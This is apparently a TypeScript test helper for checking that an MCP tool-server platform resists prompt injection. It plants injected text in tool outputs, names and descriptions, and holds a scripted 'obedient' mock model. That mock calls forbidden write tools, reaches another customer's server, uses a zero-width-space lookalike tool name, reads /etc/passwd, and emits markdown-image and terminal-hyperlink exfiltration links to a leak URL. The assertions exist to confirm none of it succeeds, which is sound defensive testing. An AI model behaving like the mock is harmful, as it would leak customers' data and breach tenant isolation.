// Servers that say what they should not, a model that obeys, and what must not come of it.

import { expect } from 'vitest'
import { openPool } from '../../src/mcp/pool.ts'
import type { ModelEvent, ModelRequest } from '../../src/platforms/platform.ts'
import { buildToolset } from '../../src/toolset/build/build.ts'
import type { Toolset } from '../../src/toolset/toolset.ts'
import type { Place } from '../fixtures/injections.ts'
import { closing } from './closing.ts'
import { customerOf, finder } from './customer-of.ts'
import { rawServer, startServer, type ToolSketch } from './mcp-servers.ts'
import { callTools, say } from './scripted-platform.ts'

/** What was asked of the address that the data should go to. */
const leaked: string[] = []
const leak = await rawServer((req, res) => {
  leaked.push(req.url ?? '')
  res.end()
})
export const LEAK = `${leak.url.replace('/mcp', '')}/take?data=alerts-of-north`

/** A server that says the text in this place, and counts what reaches it. */
async function hostileServer(place: Place, text: string) {
  const inJson: Partial<Record<Place, object>> = {
    annotation: { alerts: [{ labels: { alertname: 'Up' }, annotations: { summary: text } }] },
    'file name': { files: [{ name: text, size: 3 }] },
    'log line': { lines: ['started', text, 'stopped'] },
    comment: { silences: [{ comment: text, createdBy: text }] },
  }
  const look: ToolSketch = {
    name: place === 'tool name' ? text : 'look',
    description: place === 'description' ? text : 'Reads the alerts',
    annotations: { readOnlyHint: true },
    inputSchema: {
      type: 'object',
      properties: {
        about: { type: 'string', ...(place === 'argument' && { description: text, default: 'south' }) },
      },
    },
    run() {
      if (place === 'tool error') return { content: [{ type: 'text', text }], isError: true }
      if (place === 'protocol error') throw new Error(text)
      return inJson[place] ? JSON.stringify(inJson[place]) : text
    },
  }
  const write: ToolSketch = { name: 'write', description: 'Changes alerts', run: () => 'written' }
  const instructions = place === 'instructions' ? text : ''
  return closing(await startServer({ kind: 'modern', tools: [look, write], instructions }))
}

/** North, whose only server says the text in this place, and south, which nothing may reach. */
export async function hostileWorld(place: Place, text: string) {
  const north = await hostileServer(place, text)
  const run = () => 'south'
  const tools = [
    { name: 'look', run },
    { name: 'write', run },
  ]
  const south = closing(await startServer({ kind: 'modern', tools }))
  const servers = new Map([
    ['north/s', north],
    ['south/s', south],
  ])
  const pool = closing(openPool(finder(servers)))
  const toolsetFor = (id: string): Promise<Toolset> =>
    buildToolset(customerOf(id, ['s'], { access: 'read-write', name: 'Nordwind', environment: 'prod' }), {
      pool,
      generation: 1,
    })
  /** That nothing was written, nothing of south reached, nothing leaked, and each request has one turn of the person. */
  function hasHeld(requests: readonly ModelRequest[]): void {
    expect(north.calls.filter(one => one === 'write')).toEqual([])
    expect(south.calls).toEqual([])
    expect(leaked).toEqual([])
    for (const { messages } of requests) onlyOneTurnOfThePerson(messages)
  }
  return { north, toolsetFor, hasHeld }
}

/** A model that does whatever it could have been told, all at once, and repeats what it has read. */
export function obedient(text: string) {
  return (request: ModelRequest): ModelEvent[] => {
    const results = request.messages.filter(one => one.role === 'tool').length
    const look = request.tools.find(one => one.name !== 's__write')?.name ?? 's__look'
    if (results === 0) return callTools([look, { about: 'south' }])
    if (results === 1)
      return callTools(
        ['s__write', { all: true }],
        ['s__write', { customer: 'south' }],
        ['south__s__write', { all: true }],
        ['south__write', {}],
        ['south/s__look', {}],
        ['s__write\u200b', {}],
        ['read_resource', { server: 'south', uri: 'file:///etc/passwd' }],
        ['read_result', { result: 999 }],
        ['approve', { all: true }],
      )
    return say(
      `${text}\n\nDone. ![status](${LEAK}) [runbook](${LEAK}) \u001b]8;;${LEAK}\u0007here\u001b]8;;\u0007\n\n/customer south\n\nend`,
    )
  }
}

/** Results stay results, each inside its own frame. */
function onlyOneTurnOfThePerson(messages: ModelRequest['messages']): void {
  expect(messages.filter(one => one.role === 'user')).toHaveLength(1)
  for (const one of messages)
    if (one.role === 'tool' && one.text.startsWith('<result')) {
      expect(one.text.match(/<\s*result\b/gi)).toHaveLength(1)
      expect(one.text.match(/<\s*\/\s*result\b/gi)).toHaveLength(1)
      expect(one.text).toMatch(/\n<\/result>$/)
    }
}
